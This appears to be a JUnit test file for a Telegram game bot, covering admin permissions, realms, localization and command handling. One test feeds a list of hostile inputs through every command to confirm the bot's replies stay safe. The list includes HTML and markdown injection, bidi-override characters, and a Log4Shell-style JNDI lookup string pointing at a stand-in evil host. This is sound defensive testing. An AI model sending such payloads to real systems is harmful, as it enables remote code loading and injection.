package dev.levelwright.telegram;

import static dev.levelwright.telegram.Played.NOON;
import static dev.levelwright.telegram.testkit.Updates.group;
import static dev.levelwright.telegram.testkit.Updates.message;
import static dev.levelwright.telegram.testkit.Updates.moving;
import static dev.levelwright.telegram.testkit.Updates.person;
import static dev.levelwright.telegram.testkit.Updates.press;
import static dev.levelwright.telegram.testkit.Updates.privately;
import static dev.levelwright.telegram.testkit.Updates.supergroup;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.levelwright.chat.AnnouncementPolicy;
import dev.levelwright.chat.ChatSettings;
import dev.levelwright.chat.Command;
import dev.levelwright.telegram.command.CommandMenu;
import dev.levelwright.telegram.delivery.Outgoing;
import dev.levelwright.telegram.testkit.SentText;
import dev.levelwright.telegram.testkit.Updates;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Who may say what, where, and what comes back. */
class ConversationTest {
    private static final ObjectNode GROUP = group(-5);
    private static final ObjectNode ADA = person(7, "Ada");
    private static final ObjectNode ADMIN = person(9, "Ann");

    private final Played played = new Played(TestGames.small(), TelegramSettings.STANDARD, new Recorded(9L));

    @Test
    void adminCommandsAreForTheAdministratorsOfTheGroup() {
        for (String command : adminCommands()) {
            played.take(message(GROUP, ADA, next(), NOON, "/" + command));
            Outgoing refused = last();
            played.take(message(GROUP, ADMIN, next(), NOON, "/" + command));
            Outgoing answered = last();

            assertThat(refused.chat()).as(command).isEqualTo(7);
            assertThat(Recorded.html(answered)).as(command).isNotEqualTo(Recorded.html(refused));
        }
        assertThat(adminCommands()).isNotEmpty();
    }

    @Test
    void administratorsAreAskedOnceInAWhile() {
        played.take(message(GROUP, ADA, next(), NOON, "/balance"), message(GROUP, ADMIN, next(), NOON, "/balance"));
        assertThat(played.api.calls("getChatAdministrators")).hasSize(1);

        played.timer.pass(Duration.ofMinutes(11));
        played.take(message(GROUP, ADA, next(), NOON, "/balance"));

        assertThat(played.api.calls("getChatAdministrators")).hasSize(2);
    }

    /** Anybody can make a group, add the bot and be its administrator. */
    @Test
    void nobodyGovernsARealmThatSeveralGroupsShare() {
        Played shared = new Played(
                TestGames.small(),
                TelegramSettings.STANDARD.with(Realms.one("game")).withOwners(Set.of(11L)),
                new Recorded(9L));
        shared.take(message(GROUP, ADMIN, 1, NOON, "/supply"));
        String refusal = Recorded.html(shared.api.messages().get(0));
        shared.take(message(GROUP, person(11, "Owner"), 2, NOON, "/supply"));

        assertThat(Recorded.html(shared.api.messages().get(1))).isNotEqualTo(refusal);
        assertThat(shared.api.messages().get(0).chat()).isEqualTo(9);
    }

    @Test
    void aPrivateChatIsARealmOfItsOwnWhereNobodyIsAdmin() {
        played.take(message(privately(7), ADA, 1, NOON, "/daily"), message(privately(7), ADA, 2, NOON, "/supply"));

        assertThat(played.amount("7", 7, "coins")).isEqualTo(100);
        assertThat(played.amount("-5", 7, "coins")).isZero();
        assertThat(played.api.messages())
                .allSatisfy(sent -> assertThat(sent.chat()).isEqualTo(7));
    }

    @Test
    void whoWritesInPrivateMayPlayInARealmOfTheAuthorsChoice() {
        Played home = new Played(
                TestGames.small(), TelegramSettings.STANDARD.with(Realms.groupsAndPrivately("-5")), new Recorded());
        home.take(message(GROUP, ADA, 1, NOON, "/daily"), message(privately(7), ADA, 1, NOON, "hello"));

        assertThat(home.amount("-5", 7, "coins")).isEqualTo(100);
        assertThat(home.amount("-5", 7, "xp")).isEqualTo(10);
    }

    @Test
    void aCommandMayHaveAnotherName() {
        Played renamed = new Played(
                TestGames.small(),
                TelegramSettings.STANDARD.with(ChatSettings.standard().withAlias("cadeau", "daily")),
                new Recorded());
        renamed.take(message(GROUP, ADA, 1, NOON, "/cadeau"));

        assertThat(renamed.amount("-5", 7, "coins")).isEqualTo(100);
    }

    @Test
    void peopleAreAnsweredInTheLanguageOfTheirApp() {
        ObjectNode french = person(8, "Zoé").put("language_code", "fr");
        ObjectNode russian = person(10, "Аня").put("language_code", "ru");
        played.take(
                message(GROUP, french, 1, NOON, "/give @nobody 5"),
                message(GROUP, russian, 2, NOON, "/give @nobody 5"));

        assertThat(played.api.messages()).extracting(Recorded::html).satisfies(texts -> {
            assertThat(texts.get(0)).startsWith("Je ne connais pas encore");
            assertThat(texts.get(1)).startsWith("Я ещё не знаю");
        });
        assertThat(SentText.ofHtml(Recorded.html(played.api.messages().get(0))).links())
                .isEmpty();
    }

    @Test
    void whoWasSeenMayBeMeantByTheirHandle() {
        ObjectNode bob = person(8, "Bob").put("username", "Bobby");
        played.take(message(GROUP, bob, 1, NOON, "hi"), message(GROUP, ADA, 2, NOON, "/daily"));
        played.take(message(GROUP, ADA, 3, NOON, "/give @bobby 40"));

        assertThat(played.amount("-5", 8, "coins")).isEqualTo(40);
    }

    @Test
    void levelsGainedTogetherAreToldOnceWhereTheyWereGained() {
        played.adapter.announceLevels(realm -> AnnouncementPolicy.sameChannel());
        for (int i = 0; i < 25; i++) {
            played.take(message(supergroup(-1005), ADA, 100 + i, NOON, "hello"));
        }
        assertThat(played.api.messages()).isEmpty();
        played.timer.pass(Duration.ofSeconds(3));

        assertThat(played.api.messages()).hasSize(1);
        assertThat(last().chat()).isEqualTo(-1005);
        assertThat(Recorded.html(last())).contains("Ada").contains("2");
    }

    @Test
    void whoIsReactedToIsWhoWroteTheMessage() {
        ObjectNode bob = person(8, "Bob");
        played.take(message(GROUP, ADA, 1, NOON, "listen"));
        played.take(Updates.reaction(GROUP, bob, 1, NOON, "👍"), Updates.reaction(GROUP, bob, 77, NOON, "👍"));

        assertThat(played.game.in("-5").reader().journal(0, 10))
                .extracting(
                        entry -> entry.transaction().activity().party("target").map(Object::toString))
                .containsExactly(Optional.empty(), Optional.of("player:7"), Optional.empty());
    }

    @Test
    void whatComesLateOfAGroupThatMovedFindsItsRealm() {
        played.take(message(GROUP, ADA, 1, NOON, "hello"));
        played.take(moving(GROUP, ADA, 2, NOON, -1005), message(GROUP, ADA, 3, NOON, "late"));
        played.take(message(GROUP, ADA, 1, NOON, "hello"));

        assertThat(played.amount("-1005", 7, "xp")).isEqualTo(20);
        assertThat(played.journal("-5")).isEmpty();
    }

    @Test
    void anUnknownCommandIsExplainedInPrivateAndLeftAloneInAGroup() {
        played.take(message(GROUP, ADA, 1, NOON, "/weather"));
        assertThat(played.api.messages()).isEmpty();

        played.take(message(privately(7), ADA, 2, NOON, "/weather"));
        played.take(message(privately(7), ADA, 3, NOON, "/start"));

        assertThat(played.api.messages()).hasSize(2);
        assertThat(Recorded.html(last())).contains("daily", "leaderboard");
    }

    static Stream<String> hostile() {
        return Stream.of(
                "<b>bold</b><a href=\"tg://user?id=1\">x</a>",
                "&lt;script&gt; & \"quotes\" 'single'",
                "@everyone @admin_of_all /daily #tag https://evil.example.com evil.org",
                "`code` *bold* _it_ ~s~ ||spoiler|| [x](https://evil.example.com)",
                "\u202Eright to left\u202D \u2066isolated\u2069 العربية עברית",
                "Z\u0338\u0337\u0336a\u0338\u0337\u0336l\u0338\u0337\u0336g\u0338\u0337\u0336o".repeat(50),
                "line\nbreak\r\nand\ttab \u0000\u0007\u001B[31mred\u001B[0m",
                "\uD83D lone \uDC00 halves",
                "👩‍👩‍👧‍👦".repeat(400),
                "x".repeat(3900),
                "${jndi:ldap://evil.example.com/a} %s {0}");
    }

    /** As a name, as an argument and as a message, through every command. */
    @ParameterizedTest
    @MethodSource("hostile")
    void hostileTextsAreHarmlessInEveryCommand(String text) {
        ObjectNode hostile = person(8, text).put("username", "hostile");
        played.take(message(GROUP, hostile, next(), NOON, text.isBlank() ? "x" : "hi " + text));
        for (Command command : played.adapter.commands()) {
            for (ObjectNode who : List.of(hostile, ADMIN)) {
                String line = "/" + CommandMenu.name(command);
                played.take(
                        message(GROUP, who, next(), NOON, line + " " + text),
                        message(GROUP, who, next(), NOON, line + " @hostile " + text),
                        message(GROUP, who, next(), NOON, line + " \"" + text + "\" 5"),
                        Updates.answering(message(privately(8), hostile, next(), NOON, line + " 5 " + text), hostile));
            }
        }
        played.take(press(GROUP, hostile, "q1", 5, "lw:" + text), press(GROUP, hostile, "q2", 5, text));

        assertThat(played.api.messages()).hasSizeGreaterThan(40).allSatisfy(ConversationTest::isHarmless);
    }

    /** Telegram would take it, and nothing in it can be clicked but what the game itself says. */
    private static void isHarmless(Outgoing sent) {
        SentText text = SentText.ofHtml(Recorded.html(sent));
        int most = sent.parameters().containsKey("caption") ? 1024 : 4096;
        assertThat(text.words().length()).isBetween(1, most);
        assertThat(text.links()).allSatisfy(link -> assertThat(link).matches("/[a-z_]+|@local_bot"));
        assertThat(text.words().chars().filter(c -> c < ' ' && c != '\n')).isEmpty();
        assertThat(text.words()).doesNotContain("\u202E", "\u202D", "\u001B");
        assertThat(sent.parameters().toString().getBytes(StandardCharsets.UTF_8).length)
                .isLessThan(20_000);
    }

    @Test
    void nothingIsGivenToABot() {
        ObjectNode bot = Updates.bot(11, "tea_bot");
        played.take(message(GROUP, bot, next(), NOON, "tea is ready"));
        played.take(message(GROUP, ADA, next(), NOON, "/daily"), message(GROUP, ADMIN, next(), NOON, "hello"));
        played.take(Updates.answering(message(GROUP, ADA, next(), NOON, "/give 10"), bot));
        played.take(message(GROUP, ADA, next(), NOON, "/give @tea_bot 10"));
        played.take(Updates.naming(message(GROUP, ADA, next(), NOON, "/give Tea 10"), "Tea", bot));
        assertThat(played.amount("-5", 7, "coins")).isEqualTo(100);
        assertThat(played.amount("-5", 11, "coins")).isZero();

        played.take(Updates.answering(message(GROUP, ADA, next(), NOON, "/give 10"), ADMIN));
        assertThat(played.amount("-5", 9, "coins")).isEqualTo(10);
    }

    private List<String> adminCommands() {
        return played.adapter.commands().stream()
                .filter(Command::adminOnly)
                .map(CommandMenu::name)
                .toList();
    }

    private Outgoing last() {
        List<Outgoing> messages = played.api.messages();
        return messages.get(messages.size() - 1);
    }

    private int message = 1_000;

    private int next() {
        return message++;
    }
}
